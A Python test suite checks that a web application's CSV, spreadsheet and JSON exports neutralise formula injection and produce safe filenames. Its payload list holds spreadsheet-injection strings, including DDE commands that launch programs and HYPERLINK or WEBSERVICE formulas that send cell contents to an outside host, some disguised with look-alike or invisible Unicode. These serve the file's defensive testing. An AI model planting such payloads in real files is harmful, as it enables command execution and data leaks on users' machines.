"""What a stranger typed never becomes a formula, whatever program opens the file; numbers stay numbers."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import unquote
from uuid import UUID

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from training.people.rules import Role
from training.web.exports import UnknownFormat, csv_bytes, csv_text, defused, json_bytes, table_response, xlsx_bytes

STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫−"
INVISIBLE = "\"' \t\r\n\v\f\u00a0\u00ad\u200b\u200c\u200d\u200e\u200f\u2003\u2060\u2061\u3000\ufeff"

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    '=WEBSERVICE(CONCATENATE("http://example.org/",A1))',
    '=IMPORTXML(CONCAT("http://example.org/",A2),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "Ada;=1+1",
    "Ada\t=1+1",
    "Ada\t+1+1;x",
    "Ada;;@SUM(1)",
    "Ada\n=1+1",
    "Ada\r=1+1\r",
    'Ada";=1+1;"',
    'Ada"\t=1+1\t"',
    "Ada; \u200b =1+1",
    "Ada|=1+1",
    "a,=1+1",
    '","=1+1","',
    '";"=1+1";"',
    "+49 30 123456",
    "-5",
    "@ada",
]


def cells(text: str, separator: str) -> list[str]:
    """Every cell that a program sees that believes in this separator."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def evaluated(cell: str) -> bool:
    return cell.lstrip(INVISIBLE.replace("'", ""))[:1] in tuple(STARTERS)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_payload_is_evaluated(payload: str, separator: str) -> None:
    text = csv_text([payload, "next"], [[payload, "plain"], ["plain", payload], [7, payload]])
    assert [cell for cell in cells(text, separator) if evaluated(cell)] == []


@given(st.lists(st.text(alphabet=st.sampled_from(STARTERS + INVISIBLE + ";,|A1(")), min_size=1, max_size=4))
def test_no_text_is_evaluated(row: list[str]) -> None:
    text = csv_text(["name"] * len(row), [row])
    for separator in (",", ";", "\t"):
        assert [cell for cell in cells(text, separator) if evaluated(cell)] == []


@pytest.mark.parametrize("text", ["Ada", "well-being", "a = b", "3-4", "x@example.org", "Ada; Bob", "", "50 %", "a\nb"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert defused(text) == text
    assert cells(csv_text(["name"], [[text, "x"]]), ",") == ["name", text, "x"]


def test_the_unprotected_file_would_be_evaluated() -> None:
    """The judge can say no."""
    assert [evaluated(payload) for payload in ("=1+1", " ＝1", "Ada")] == [True, True, False]
    assert any(evaluated(cell) for cell in cells('"Ada","x;=1+1;"\r\n', ";"))


VALUES: list[Any] = [
    -5,
    1.5,
    Decimal("-2.25"),
    True,
    None,
    date(2026, 5, 6),
    datetime(2026, 5, 6, 15, 0, tzinfo=UTC),
    UUID(int=7),
    Role.STAFF,
    ("en", "de"),
    float("nan"),
]


def test_values_in_csv() -> None:
    [row] = list(csv.reader(io.StringIO(csv_text(["a"] * len(VALUES), [VALUES])), quoting=csv.QUOTE_NONNUMERIC))[1:]
    assert row == [
        -5.0,
        1.5,
        -2.25,
        "yes",
        "",
        "2026-05-06",
        "2026-05-06T15:00:00Z",
        str(UUID(int=7)),
        "staff",
        "en, de",
        "",
    ]


def test_a_csv_file_says_its_encoding_and_ends_lines_as_the_standard_says() -> None:
    assert csv_bytes(["Name"], [["Zoë"]]) == b'\xef\xbb\xbf"Name"\r\n"Zo\xc3\xab"\r\n'


def test_values_in_a_workbook() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["a"] * len(VALUES), [VALUES]))).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]] == [
        -5,
        1.5,
        -2.25,
        "yes",
        None,
        datetime(2026, 5, 6),
        datetime(2026, 5, 6, 15, 0),
        str(UUID(int=7)),
        "staff",
        "en, de",
        None,
    ]


def test_no_payload_is_a_formula_in_a_workbook() -> None:
    content = xlsx_bytes(["Name", "=1+1"], [[payload, payload] for payload in PAYLOADS])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row, payload in enumerate(PAYLOADS, 2):
        cell = sheet.cell(row, 1)
        assert str(cell.value).replace("_x000D_", "\r").split() == payload.split()
        assert cell.data_type == "s"
        assert cell.quotePrefix or not evaluated(payload)


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["a"], [["x" * 40_000]]))).active
    assert sheet is not None
    value = str(sheet.cell(2, 1).value)
    assert len(value) == 32_767
    assert value.endswith("x…")


def test_json_keeps_what_was_typed() -> None:
    assert json_bytes(["Name", "Born on"], [["=1", date(2000, 1, 2)]]) == (
        b'[\n {\n  "name": "=1",\n  "born_on": "2000-01-02"\n }\n]'
    )


def test_the_answer_is_a_file_with_a_harmless_name() -> None:
    response = table_response("csv", 'Zoë\'s "list"\r\nx: y/../z', ["a"], [["b"]])
    assert response.media_type == "text/csv"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"Zoe-s-_list_-x_-y_.._z.csv\"; filename*=UTF-8''Zo%C3%AB")
    exact = unquote(disposition.partition("''")[2])
    assert exact == "Zoë's _list_ x_ y_.._z.csv"
    assert disposition.isascii()
    assert disposition.isprintable()


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(UnknownFormat):
        table_response("ods", "list", ["a"], [])
